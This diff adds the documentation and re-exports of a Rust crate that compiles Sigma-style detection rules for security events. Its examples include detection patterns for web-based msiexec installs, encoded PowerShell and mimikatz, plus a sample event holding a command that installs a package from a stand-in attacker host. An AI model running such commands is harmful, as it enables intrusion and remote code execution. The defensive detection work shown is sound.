@@ -1,0 +1,160 @@
+//! # detect
+//!
+//! Detection rules written as Rust macro input and compiled, at build time,
+//! into plain functions that decide for each event which rules fire, without
+//! interpreting anything or allocating on the way.
+//!
+//! ```
+//! detect::rules! {
+//!     /// The rules of this example.
+//!     pub ruleset Example;
+//!
+//!     /// msiexec started with a web address as parameter.
+//!     #[id = "f7b5f842-a6af-4da5-9e8e-43cdc8ecab3f"]
+//!     #[title = "MsiExec Web Install"]
+//!     #[level(medium)]
+//!     #[tags(attack.defense_evasion, attack.t1218.007)]
+//!     #[logsource(product = windows, category = process_creation)]
+//!     rule msiexec_web_install {
+//!         selection: { CommandLine: "* msiexec*://*" },
+//!         condition: selection,
+//!     }
+//! }
+//!
+//! use detect::JsonEvent;
+//! let event = JsonEvent::parse_str(r#"{"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1,
+//!     "CommandLine": "cmd.exe /c msiexec /q /i https://evil.example/x.msi"}"#).unwrap();
+//! let mut hits = Vec::new();
+//! Example::scan(&event, |rule| hits.push(rule.name));
+//! assert_eq!(hits, ["msiexec_web_install"]);
+//! ```
+//!
+//! # The rule language
+//!
+//! A `rules!` block names the type to generate (`pub ruleset Name;`), then
+//! lists rules. A rule reads like a Sigma rule: named **selections** and a
+//! **condition** over them, with metadata as attributes.
+//!
+//! ## Metadata
+//!
+//! | attribute | meaning |
+//! |---|---|
+//! | `/// text` | description (doc comments) |
+//! | `#[id = "uuid"]`, `#[title = "..."]`, `#[author = "..."]`, `#[date = "..."]`, `#[modified = "..."]` | as in Sigma; the title defaults to the rule's name |
+//! | `#[level(low)]` | informational, low, medium (default), high, critical |
+//! | `#[status(test)]` | stable, test, experimental, deprecated, unsupported |
+//! | `#[tags(attack.execution, attack.t1059.001)]` | tags |
+//! | `#[references("https://...")]`, `#[falsepositives("...")]` | lists of strings |
+//! | `#[logsource(product = windows, category = process_creation)]` | which events the rule sees (`service = sysmon`, ...) |
+//! | `#[fields(ecs)]` | field names are ECS (`process.command_line`) rather than Sigma's Windows names |
+//!
+//! ## Selections
+//!
+//! * `name: { Field: value, Field|modifier: value, ... }`: all entries must hold (AND);
+//! * `name: [{ ... }, { ... }]`: any of the maps (OR);
+//! * `name: ["keyword", ...]`: keyword search, any value anywhere in the event
+//!   contains one of the keywords;
+//! * `{ |all: ["a", "b"] }`: an entry without a field is a keyword entry too.
+//!
+//! Field names are identifiers, dotted paths (`process.parent.name`) or string
+//! literals (`"Some Field"`). Values are strings, numbers, `true`/`false` or
+//! `null`, or a list `[a, b]` (any of them; every one of them with `|all`).
+//! Strings are Sigma strings: `*` and `?` are wildcards and `\*`, `\?`, `\\`
+//! escape them; any other backslash is literal, so raw strings (`r"\cmd.exe"`)
+//! copy values from YAML verbatim.
+//!
+//! ```
+//! detect::rules! {
+//!     pub ruleset Selections;
+//!
+//!     #[logsource(product = windows, category = process_creation)]
+//!     rule encoded_powershell {
+//!         selection_img: [
+//!             { Image|endswith: [r"\powershell.exe", r"\pwsh.exe"] },
+//!             { OriginalFileName: ["PowerShell.EXE", "pwsh.dll"] },
+//!         ],
+//!         selection_cli: { CommandLine|windash|contains: [" -enc ", " -encodedcommand "] },
+//!         filter_main_system: { User|contains: ["AUTHORI", "AUTORI"] },
+//!         condition: all of selection_* and not 1 of filter_main_*,
+//!     }
+//! }
+//! use detect::JsonEvent;
+//! let ev = JsonEvent::parse_str(r#"{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,
+//!   "Image":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+//!   "CommandLine":"powershell /ENC SQBFAFgA","User":"CORP\\alice"}"#).unwrap();
+//! let mut n = 0;
+//! Selections::scan(&ev, |_| n += 1);
+//! assert_eq!(n, 1);
+//! ```
+//!
+//! ## Modifiers
+//!
+//! `contains`, `startswith`, `endswith`, `all`, `cased`, `neq`, `exists`,
+//! `re` (with `i`, `m`, `s`), `cidr`, `gt`/`gte`/`lt`/`lte`, `fieldref`,
+//! `base64`, `base64offset`, `wide`/`utf16le`/`utf16be`/`utf16`, `windash`,
+//! `expand` (with `placeholder name = ["..."];` items), and the time
+//! components `minute`, `hour`, `day`, `week`, `month`, `year`. Their meaning is
+//! documented in [`detect_core::sigma`]; encodings and `windash` are expanded
+//! at compile time into literals.
+//!
+//! ```
+//! detect::rules! {
+//!     pub ruleset Modifiers;
+//!     placeholder admins = ["root", "Administrator"];
+//!
+//!     rule many {
+//!         encoded: { CommandLine|wide|base64offset|contains: "http://" },
+//!         private_dst: { DestinationIp|cidr: ["10.0.0.0/8", "192.168.0.0/16"] },
+//!         high_port: { DestinationPort|gte: 49152 },
+//!         admin: { User|expand: "%admins%" },
+//!         same_parent: { Image|fieldref: "ParentImage" },
+//!         suspicious_re: { CommandLine|re|i: r"\bmimi(katz)?\b" },
+//!         condition: 1 of them,
+//!     }
+//! }
+//! use detect::JsonEvent;
+//! let ev = JsonEvent::parse_str(r#"{"DestinationPort": 50000}"#).unwrap();
+//! let mut n = 0;
+//! Modifiers::scan(&ev, |_| n += 1);
+//! assert_eq!(n, 1);
+//! ```
+//!
+//! ## Conditions
+//!
+//! `and`, `or`, `not`, parentheses, `1 of pattern`, `all of pattern`,
+//! `1 of them`, `all of them` (names starting with `_` are not part of
+//! `them`). Precedence from loosest: `or`, `and`, `not`.
+//!
+//! ## Mistakes are compile errors
+//!
+//! An unknown modifier, a selection missing from the condition, an invalid
+//! regex, conflicting modifiers or an empty selection stop the build with an
+//! error on the offending token:
+//!
+//! ```compile_fail
+//! detect::rules! {
+//!     pub ruleset Broken;
+//!     rule typo {
+//!         selection: { Image|endwith: r"\cmd.exe" }, // error: unknown modifier `endwith`; did you mean `endswith`?
+//!         condition: selection,
+//!     }
+//! }
+//! ```
+//!
+//! # Events
+//!
+//! Rules read events through the [`Event`] trait: [`JsonEvent`] parses NDJSON
+//! lines in any of the three [`Layout`]s (flat Windows fields, the `evtx`
+//! crate's nested rendering, ECS) and a sensor can implement [`Event`] on its
+//! own structs. Rule fields are mapped to each layout at compile time
+//! ([`detect_core::layout`]); a rule's log source becomes conditions on the
+//! event's channel and event ID ([`detect_core::logsource`]).
+
+pub use detect_core::*;
+pub use detect_macros::rules;
+
+/// Runtime helpers for generated code. Not a public API.
+#[doc(hidden)]
+pub mod __rt {
+    pub use detect_core::rt::*;
+}
